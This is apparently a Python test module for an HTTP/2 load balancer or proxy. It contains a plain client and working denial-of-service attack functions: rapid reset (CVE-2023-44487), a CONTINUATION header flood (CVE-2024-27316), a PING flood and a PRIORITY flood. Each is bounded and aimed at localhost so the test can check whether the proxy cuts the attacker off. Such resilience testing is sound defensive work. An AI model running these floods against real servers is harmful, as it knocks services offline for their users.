"""Raw HTTP/2 clients over TLS for tests: a polite one (the h2 library) and the attacks a proxy must bound."""

from __future__ import annotations

import socket
import ssl
import time
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame, PriorityFrame

ENHANCE_YOUR_CALM = 0xB


def tls_socket(port: int, server_name: str = "localhost", alpn: tuple[str, ...] = ("h2",)) -> ssl.SSLSocket:
    """A TLS connection to 127.0.0.1:port that trusts anything (test certificates), offering `alpn`."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(list(alpn))
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    return context.wrap_socket(raw, server_hostname=server_name)


class H2Client:
    """A blocking HTTP/2 client on one connection (enough to open, read and reset streams by hand)."""

    def __init__(self, port: int, *, checked: bool = True) -> None:
        """`checked=False`: h2 sends headers as given, malformed too (it checks and tidies by default)."""
        self.sock = tls_socket(port)
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(
                client_side=True,
                header_encoding=None,
                validate_outbound_headers=checked,
                normalize_outbound_headers=checked,
            )
        )
        self.conn.initiate_connection()
        self.port = port
        self.closed = False
        self.goaway: int | None = None  # the error code of a GOAWAY received
        self.events: list[h2.events.Event] = []
        self.flush()

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def request(self, path: str, *, end: bool = True) -> int:
        """Open a stream with a GET; its id."""
        sid = self.conn.get_next_available_stream_id()
        headers = [
            (b":method", b"GET"),
            (b":path", path.encode()),
            (b":scheme", b"https"),
            (b":authority", f"localhost:{self.port}".encode()),
        ]
        self.conn.send_headers(sid, headers, end_stream=end)
        self.flush()
        return sid

    def reset(self, sid: int) -> None:
        self.conn.reset_stream(sid)
        self.flush()

    def pump(self, timeout: float = 5.0) -> list[h2.events.Event]:
        """Read once (up to `timeout`); the events it brought (and note a GOAWAY or a close)."""
        self.sock.settimeout(timeout)
        try:
            data = self.sock.recv(65536)
        except (TimeoutError, ssl.SSLError, OSError):
            return []
        if not data:
            self.closed = True
            return []
        events = self.conn.receive_data(data)
        for event in events:
            if isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = int(event.error_code or 0)
            if isinstance(event, h2.events.DataReceived):
                self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
        self.events += events
        try:
            self.flush()
        except OSError:  # the LB went away meanwhile
            self.closed = True
        return events

    def close(self) -> None:
        self.sock.close()


@dataclass
class AttackResult:
    """How an attack ended: cut off by the LB (GOAWAY or close), after how many frames or streams."""

    cut_off: bool
    goaway: int | None
    sent: int
    seconds: float


def rapid_reset(port: int, *, max_streams: int = 20_000, max_seconds: float = 10.0) -> AttackResult:
    """Open a stream and cancel it at once, over and over (CVE-2023-44487), until cut off or a bound."""
    client = H2Client(port)
    started = time.monotonic()
    sent = 0
    try:
        while sent < max_streams and time.monotonic() - started < max_seconds:
            try:
                sid = client.request(f"/home?id={sent}")
                client.reset(sid)
            except (OSError, h2.exceptions.ProtocolError):
                break  # the LB closed the connection (or said GOAWAY)
            sent += 1
            if sent % 50 == 0:
                client.sock.setblocking(False)
                try:
                    data = client.sock.recv(65536)
                except (ssl.SSLWantReadError, BlockingIOError):
                    data = None
                except OSError:
                    break
                finally:
                    client.sock.setblocking(True)
                if data == b"":
                    break
                if data:
                    for event in client.conn.receive_data(data):
                        if isinstance(event, h2.events.ConnectionTerminated):
                            client.goaway = int(event.error_code or 0)
                    if client.goaway is not None:
                        break
        while not client.closed and time.monotonic() - started < max_seconds + 5:
            try:
                client.pump(timeout=1.0)
            except h2.exceptions.ProtocolError:
                break
        return AttackResult(
            client.closed or client.goaway is not None, client.goaway, sent, time.monotonic() - started
        )
    finally:
        client.close()


def continuation_flood(port: int, *, max_frames: int = 100_000, max_seconds: float = 10.0) -> AttackResult:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION (CVE-2024-27316)."""
    client = H2Client(port)
    started = time.monotonic()
    encoder = hpack.Encoder()
    block = encoder.encode([(b":method", b"GET"), (b":path", b"/home"), (b":scheme", b"https")])
    sent = 0
    try:
        client.sock.sendall(HeadersFrame(1, data=block).serialize())  # no END_HEADERS flag
        piece = encoder.encode([(b"x-flood", b"y" * 1000)])
        closed = False
        while sent < max_frames and time.monotonic() - started < max_seconds:
            try:
                client.sock.sendall(ContinuationFrame(1, data=piece).serialize())
            except OSError:  # reset by the LB
                closed = True
                break
            sent += 1
        client.sock.settimeout(5)
        deadline = time.monotonic() + 5
        while not closed and time.monotonic() < deadline:
            try:
                closed = not client.sock.recv(65536)
            except TimeoutError:
                break
            except (ssl.SSLError, OSError):
                closed = True
        return AttackResult(closed, None, sent, time.monotonic() - started)
    finally:
        client.close()


def outcome(client: H2Client, started: float, sent: int, max_seconds: float) -> AttackResult:
    """After a flood: read until the LB's GOAWAY or close (or a quiet second, or the time bound)."""
    while not client.closed and client.goaway is None and time.monotonic() - started < max_seconds + 5:
        try:
            if not client.pump(timeout=1.0) and not client.closed:
                break
        except h2.exceptions.ProtocolError:
            break
    return AttackResult(
        client.closed or client.goaway is not None, client.goaway, sent, time.monotonic() - started
    )


def ping_flood(port: int, *, max_pings: int = 5_000, max_seconds: float = 10.0) -> AttackResult:
    """PING after PING, never reading the acknowledgements."""
    client = H2Client(port)
    started = time.monotonic()
    sent = 0
    try:
        while sent < max_pings and time.monotonic() - started < max_seconds:
            try:
                client.conn.ping(b"%08d" % sent)
                client.flush()
            except (OSError, h2.exceptions.ProtocolError):
                break
            sent += 1
        return outcome(client, started, sent, max_seconds)
    finally:
        client.close()


def priority_flood(port: int, *, max_frames: int = 20_000, max_seconds: float = 10.0) -> AttackResult:
    """PRIORITY frames, which ask nothing of the server, as fast as the socket takes them."""
    client = H2Client(port)
    started = time.monotonic()
    frame = PriorityFrame(1, depends_on=0, stream_weight=16).serialize()
    batch = 20
    sent = 0
    try:
        while sent < max_frames and time.monotonic() - started < max_seconds:
            try:
                client.sock.sendall(frame * batch)
            except OSError:
                break  # the LB closed the connection
            sent += batch
        return outcome(client, started, sent, max_seconds)
    finally:
        client.close()
